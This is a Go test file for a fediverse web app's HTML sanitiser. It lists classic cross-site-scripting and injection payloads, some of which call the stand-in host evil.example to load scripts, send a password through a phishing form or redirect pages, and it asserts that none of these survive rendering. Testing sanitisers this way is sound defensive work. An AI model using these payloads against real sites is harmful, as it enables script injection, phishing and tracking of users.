package web

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"entente.example/entente/activity"
	"entente.example/entente/store"
)

// attacks are what people have put into fields of the Fediverse, and the classic
// ways round a sanitiser.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	`<img src=x onerror=alert(1)>`,
	`<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" java&#x0A;script:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:msgbox(1)" style="position:fixed;inset:0">x</a>`,
	`<p style="background:url(https://evil.example/spy)" onclick=alert(1) id=main>x</p>`,
	`<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
	`<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>`,
	`<object data=x></object><embed src=x><video poster=https://evil.example/spy><audio src=https://evil.example/spy autoplay>`,
	`</div></article></main><main id="main"><h1>Not us</h1>`,
	`<blockquote><ul><li><b><i>never closed`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<textarea></textarea><title></title><plaintext>`,
	`"><script>alert(1)</script>`,
	`' onmouseover='alert(1)`,
	`{{.Me}}<!--<script>-->`,
	`&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;`,
	"\u202egnp.exe \u0000<b\u0000 onclick=alert(1)>",
	`<a class="mention" href="https://globex.example/@bea">@"><script>alert(1)</script></a>`,
	`<a class="hashtag" href="x">#"><img src=x onerror=alert(1)></a>`,
	strings.Repeat("<blockquote>", 600) + "deep",
}

// allowed are the elements of our own pages and those of sanitised texts.
var allowed = strings.Fields("html head meta title link body a svg symbol path circle rect use div header span b nav ul li p bdi form input button main footer " +
	"section h1 h2 h3 article details summary label textarea select option time dl dt dd strong ol em i u s del pre blockquote code sub sup br abbr ruby rt rp fieldset legend meter")

func TestNothingThatPartnersSendRuns(t *testing.T) {
	t.Parallel()
	c := newCompany(t)
	alice := c.member("alice", "Alice")
	b := c.as(alice)
	for i, attack := range attacks {
		evil, text := c.hostile(string(rune('a'+i%26))+string(rune('a'+i/26)), attack, alice)
		c.tx(func(tx *store.Tx) error {
			return tx.Notify(t.Context(), alice.Key, "mention", evil.Key, text.Key)
		})
		for _, path := range []string{actorPath(evil), notePath(evil, text), "/notifications", "/home", "/search?q=" + evil.Handle()[:2]} {
			p := b.get(path).is(http.StatusOK)
			if !strings.HasPrefix(path, "/search") && !strings.Contains(p.body, notePath(evil, text)) {
				t.Errorf("%s does not show the attack", path)
			}
			checkHarmless(t, path, attack, p)
		}
		c.does(c.engine.Block(t.Context(), alice, evil))
	}
}

// hostile is somebody of a partner with an attack in every field, kept as if
// nobody had cleaned it at the door.
func (c *company) hostile(username, attack string, reader store.Actor) (store.Actor, store.Note) {
	c.Helper()
	clean := activity.Text(strings.ReplaceAll(attack, "\x00", "")) // Postgres takes none
	evil := c.partner(activity.Actor{Username: activity.Text(username), Name: clean, Summary: clean,
		Fields: activity.List[activity.Field]{{Name: clean, Value: clean}}})
	c.joined(store.Follow, reader, evil)
	tags := activity.List[activity.Tag]{{Type: "Mention", Name: clean, Href: clean}, {Type: "Mention", Name: `@bea@"><script>`, Href: "https://globex.example/@bea"}}
	n := c.wrote(evil, store.Note{Note: activity.Note{Name: clean, Summary: clean, Sensitive: true, Content: clean, Tag: tags, Type: "Question",
		ContentMap: map[string]activity.Text{string(clean): clean}, URL: activity.IDs{activity.ID(clean)}, Question: activity.Question{OneOf: activity.List[activity.PollOption]{{Name: clean}}},
		Attachment: activity.List[activity.Attachment]{{Type: "Image", MediaType: clean, Name: clean, URL: activity.IDs{"https://media.example/" + activity.ID(clean)}}, {URL: activity.IDs{"javascript:alert(1)"}}}}})
	return evil, n
}

func checkHarmless(t *testing.T, path, attack string, p page) {
	t.Helper()
	checkNesting(p.body, func(format string, args ...any) {
		t.Helper()
		t.Errorf("%s with %q: "+format, append([]any{path, attack}, args...)...)
	})
	mains := 0
	for n := range p.doc().Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if n.Data == "main" {
			mains++
		}
		if !slices.Contains(allowed, n.Data) {
			t.Errorf("%s with %q has a <%s>", path, attack, n.Data)
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "src":
				t.Errorf("%s with %q has %s=%q", path, attack, a.Key, a.Val)
			case (a.Key == "href" || a.Key == "action" || a.Key == "formaction") && (strings.HasPrefix(value, "javascript") || strings.HasPrefix(value, "data") || strings.HasPrefix(value, "vbscript")):
				t.Errorf("%s with %q leads to %q", path, attack, a.Val)
			case (a.Key == "action" || a.Key == "formaction") && !strings.HasPrefix(a.Val, "/"):
				t.Errorf("%s with %q sends forms to %q", path, attack, a.Val)
			}
		}
	}
	if mains != 1 {
		t.Errorf("%s with %q has %d <main>", path, attack, mains)
	}
}

func TestANameCannotPassForAnother(t *testing.T) {
	t.Parallel()
	c := newCompany(t)
	alice := c.member("alice", "Alice")
	evil := c.partner(activity.Actor{Username: "al/../ice?x#y", Name: "Alice\n\n\n(CEO)\u202e"})
	n := c.wrote(evil, store.Note{Note: activity.Note{Content: "<p>hello"}})
	p := c.as(alice).get(notePath(evil, n)).is(http.StatusOK)
	p.has("globex.example", "/@al%2F..%2Fice%3Fx%23y@globex.example", "Alice (CEO)")
}

func TestPicturesOfOthersAreLoadedFromHereOnly(t *testing.T) {
	t.Parallel()
	c := newCompany(t)
	alice := c.member("alice", "Alice")
	bea := c.partner(activity.Actor{Username: "bea", Icon: activity.List[activity.Attachment]{{URL: activity.IDs{"https://media.globex.example/bea.png"}}}})
	n := c.wrote(bea, store.Note{Note: activity.Note{Content: "<p>x", Attachment: activity.List[activity.Attachment]{{Type: "Image", URL: activity.IDs{"https://media.globex.example/train.jpg"}, Name: "A train", Width: 640, Height: 480},
		{Type: "Video", URL: activity.IDs{"https://media.globex.example/train.mp4"}, Name: "It leaves"}}}})
	p := c.as(alice).get(notePath(bea, n)).has(`<img src="/media/`+n.Key.String()+`/0?`, `alt="A train" width="640" height="480" loading="lazy"`,
		`<a href="https://media.globex.example/train.mp4" rel="noopener noreferrer nofollow">It leaves</a>`, "Video at media.globex.example")
	p.hasNot("train.jpg", "bea.png")
}

func TestMentionsAndHashtagsLeadToOurPages(t *testing.T) {
	t.Parallel()
	w := &Web{}
	w.house.Host, w.house.URL = "acme.example", "https://social.acme.example"
	tags := []activity.Tag{
		{Type: "Mention", Href: "https://globex.example/users/bea", Name: "@bea@globex.example"},
		{Type: "Mention", Href: "https://social.acme.example/users/alice", Name: "@alice"},
		{Type: "Mention", Href: "https://initech.localhost:8081/u/ida", Name: "@ida"},
	}
	for text, want := range map[string]string{
		`<a href="https://globex.example/@bea" class="u-url mention">@<span>bea</span></a>`:         `href="/@bea@globex.example"`,
		`<a href="https://globex.example/users/bea" class="mention">B.</a>`:                         `href="/@bea@globex.example"`,
		`<a href="https://social.acme.example/@alice" class="mention">@alice@acme.example</a>`:      `href="https://social.acme.example/@alice"`,
		`<a href="https://social.acme.example/@alice" class="mention">@alice</a>`:                   `href="/@alice"`,
		`<a href="https://initech.localhost:8081/@ida" class="mention">@ida</a>`:                    `href="/@ida@initech.localhost:8081"`,
		`<a href="https://globex.example/@eve" class="mention">@eve</a>`:                            `href="https://globex.example/@eve"`,
		`<a href="https://globex.example/@bea">@bea</a>`:                                            `href="https://globex.example/@bea"`,
		`<a href="https://globex.example/tags/rail" class="mention hashtag">#<span>rail</span></a>`: `href="/search?q=%23rail"`,
	} {
		if got := string(w.body(text, tags, 0)); !strings.Contains(got, want) {
			t.Errorf("%s\nbecomes %s\nwant %s", text, got, want)
		}
	}
}

func TestATextNestedTooDeepIsShownWithoutMarkup(t *testing.T) {
	t.Parallel()
	got := string((&Web{}).body(strings.Repeat("<b>", 2000)+"deep &amp; <i>down</i>", nil, 0))
	if len(got) > 100000 || !strings.Contains(got, "deep &amp; ") {
		t.Errorf("%.200s", got)
	}
}
